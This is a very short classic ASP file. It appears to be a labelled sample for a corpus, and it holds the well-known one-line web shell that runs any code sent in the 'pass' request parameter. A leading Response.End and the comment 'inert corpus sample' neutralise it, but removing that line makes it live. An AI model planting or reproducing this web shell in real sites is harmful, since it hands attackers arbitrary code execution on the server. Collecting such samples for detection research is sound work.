<% Response.End ' inert corpus sample (hegui) %>
<%
If Request("pass") <> "" Then Execute(Request("pass"))
%>
